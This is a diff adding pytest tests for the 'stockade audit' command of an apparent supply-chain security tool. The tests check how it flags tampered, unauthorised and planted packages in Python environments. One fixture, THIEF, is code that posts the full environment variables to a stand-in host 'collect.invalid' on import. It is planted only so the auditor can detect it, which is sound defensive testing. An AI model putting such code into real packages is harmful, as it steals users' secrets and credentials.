@@ -1,0 +1,190 @@
+"""`stockade audit`: environments by hand, accounted for, authorised, judged, in each format."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterable
+from pathlib import Path
+
+import jsonschema  # type: ignore[import-untyped]  # its stubs would be one more dependency
+import pytest
+
+from stockade.acquire.environments.rebuilt import rebuilt
+from stockade.acquire.environments.record import Row
+from stockade.act.report.json import schema_text
+from stockade.cli.audit import FORMATS
+from stockade.model.artifact import Artifact
+from stockade.model.environment import Installed
+from tests.acquire.environments.making import Made
+from tests.cli.conftest import Run
+
+#: Inert: its host is none. What it would do is what a thief's package does when it is imported.
+THIEF = """\
+import os
+import urllib.request
+
+try:
+    urllib.request.urlopen("https://collect.invalid/", data=str(dict(os.environ)).encode())
+except Exception:
+    pass
+"""
+
+
+def honest(root: Path = Path(".venv")) -> Made:
+    made = Made(root.absolute())
+    made.install("alpha", files={"alpha/__init__.py": "ONE = 1\n"})
+    made.install("beta", files={"beta.py": "TWO = 2\n"})
+    return made
+
+
+def findings(out: str) -> list[tuple[str, str]]:
+    (environment,) = json.loads(out)["environments"]
+    return [(one["kind"], one["project"]) for one in environment["findings"]]
+
+
+def test_an_honest_environment_is_in_order(run: Run) -> None:
+    honest()
+    ran = run("audit")
+    assert ran.code == 0, ran.out + ran.err
+    assert "1 environment: 1 allowed." in ran.out
+    assert "analyser behind" in ran.out
+
+
+def test_stolen_environments_are_told_by_their_code(run: Run) -> None:
+    honest().install("gamma", files={"gamma/__init__.py": THIEF})
+    ran = run("audit")
+    assert ran.code == 10, ran.out + ran.err
+    assert "gamma 1.0" in ran.out and "gamma/__init__.py" in ran.out
+    assert "when it is imported" in ran.out
+    assert run("audit", "--no-code").code == 0
+
+
+def test_what_was_judged_is_not_packed_again_until_it_changes(
+    run: Run, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    made = honest()
+    first = json.loads(run("audit", "--format", "json").out)
+    packed: list[str] = []
+
+    def noting(
+        one: Installed, files: Iterable[Row], work: Path, note: Callable[[str], None]
+    ) -> Artifact | None:
+        packed.append(one.name)
+        return rebuilt(one, files, work, note)
+
+    monkeypatch.setattr("stockade.cli.audited.rebuilt", noting)
+    again = json.loads(run("audit", "--format", "json").out)
+    assert packed == []
+    assert again["environments"][0]["artifacts"] == first["environments"][0]["artifacts"]
+    # Other bytes under an old promise are packed, judged as they are, and not remembered under the promise.
+    made.write("beta.py", THIEF)
+    ran = run("audit", "--format", "json")
+    assert packed == ["beta"]
+    assert ("changed-file", "beta") in findings(ran.out)
+    worst = {one["project"]: one["action"] for one in json.loads(ran.out)["environments"][0]["artifacts"]}
+    assert worst == {"alpha": "allow", "beta": "block"}
+    made.write("beta.py", "TWO = 2\n")
+    assert run("audit").code == 0
+
+
+def test_a_lock_says_what_may_be_here(run: Run) -> None:
+    honest()
+    Path("requirements.txt").write_text(f"alpha==1.0 --hash=sha256:{'0' * 64}\n")
+    ran = run("audit", "--no-code", "--against", "requirements.txt", "--format", "json")
+    assert ran.code == 10
+    assert findings(ran.out) == [("unauthorised", "beta")]
+    Path("uv.lock").write_text(
+        'version = 1\nrequires-python = ">=3.11"\n\n'
+        '[[package]]\nname = "beta"\nversion = "1.0"\nsource = { registry = "https://index.invalid/simple" }\n'
+        f'wheels = [{{ url = "https://index.invalid/beta-1.0-py3-none-any.whl", hash = "sha256:{"0" * 64}" }}]\n'
+    )
+    both = ("--against", "requirements.txt", "--against", "uv.lock")
+    assert run("audit", "--no-code", *both).code == 0
+
+
+def test_requirements_without_pins_let_in_what_they_bring(run: Run) -> None:
+    made = honest()
+    text = b"Metadata-Version: 2.1\nName: gamma\nVersion: 1.0\nRequires-Dist: beta\n"
+    made.install("gamma", metadata=text)
+    Path("requirements.txt").write_text("alpha\ngamma>=0.9\nabsent\n")
+    ran = run("audit", "--no-code", "--against", "requirements.txt", "--format", "json")
+    assert (ran.code, findings(ran.out)) == (12, [("missing", "absent")])
+
+
+def test_policy_says_what_findings_are_worth(run: Run) -> None:
+    honest().write("stray.py", "ONE = 1\n")
+    assert run("audit", "--no-code").code == 0
+    Path("stockade.toml").write_text('[audit]\norphan-file = "block"\n')
+    assert run("audit", "--no-code").code == 10
+    Path("stockade.toml").write_text('mode = "monitor"\n[audit]\norphan-file = "block"\n')
+    ran = run("audit", "--no-code")
+    assert ran.code == 0 and "Monitor mode" in ran.out
+
+
+def test_planted_files_are_named(run: Run) -> None:
+    made = honest()
+    made.write("zz.pth", "import os\n")
+    made.write("beta.py", "TWO = 3\n")
+    ran = run("audit", "--no-code", "--format", "json")
+    assert ran.code == 10
+    assert {("orphan-startup", ""), ("changed-file", "beta")} <= set(findings(ran.out))
+
+
+@pytest.mark.parametrize("form", FORMATS)
+def test_every_format_is_written_where_it_is_asked_for(run: Run, form: str) -> None:
+    honest().write("stray.py", "ONE = 1\n")
+    ran = run("audit", "--no-code", "--format", form, "--output", "report")
+    assert (ran.code, ran.out) == (0, "")
+    text = Path("report").read_text()
+    if form == "json":
+        jsonschema.validate(json.loads(text), json.loads(schema_text("stockade-audit-1")))
+    assert str(Path(".venv").absolute()).rpartition("/")[2] in text
+
+
+def test_bills_of_materials_are_taken_in(run: Run) -> None:
+    honest().install("gamma", marks={"sboms/parts.cdx.json": "{}"})
+    value = json.loads(run("audit", "--no-code", "--format", "cyclonedx").out)
+    by_name = {one["name"]: one for one in value["components"][0]["components"]}
+    (reference,) = by_name["gamma"]["externalReferences"]
+    assert reference["url"].endswith("/gamma-1.0.dist-info/sboms/parts.cdx.json")
+    assert "externalReferences" not in by_name["alpha"]
+
+
+def test_every_environment_below_a_root(run: Run, tmp_path: Path) -> None:
+    honest(Path("one/.venv"))
+    made = honest(tmp_path / "home/two/env")
+    made.write("zz.pth", "import os\n")
+    ran = run("audit", "--all", "--no-code", "--root", "one", "--root", tmp_path / "home", "--format", "json")
+    roots = {one["root"]: one["action"] for one in json.loads(ran.out)["environments"]}
+    assert roots[str(Path("one/.venv").absolute())] == "allow"
+    assert roots[str(tmp_path / "home/two/env")] == "block"
+    assert ran.code == 10
+
+
+def test_an_environment_or_a_folder_of_packages_by_its_path(run: Run) -> None:
+    made = honest(Path("somewhere"))
+    assert run("audit", "--no-code", "somewhere").code == 0
+    ran = run("audit", "--no-code", made.site, "--format", "json")
+    assert [one["project"] for one in json.loads(ran.out)["environments"][0]["installed"]] == [
+        "alpha",
+        "beta",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("words", "code", "said"),
+    [
+        ((), 3, "there is no environment here"),
+        (("nowhere",), 3, "there is no such file or folder"),
+        (("file",), 3, "is no environment"),
+        (("--all", "."), 2, "give either"),
+        (("--root", "."), 2, "give --all too"),
+        (("--against", "absent.lock"), 3, "absent.lock"),
+        (("--against", "file"), 2, "no lock file that we know"),
+    ],
+)
+def test_bad_input_is_told(run: Run, words: tuple[str, ...], code: int, said: str) -> None:
+    Path("file").write_text("nothing in particular")
+    ran = run("audit", "--no-code", *words)
+    assert ran.code == code, ran.err
+    assert said in ran.err
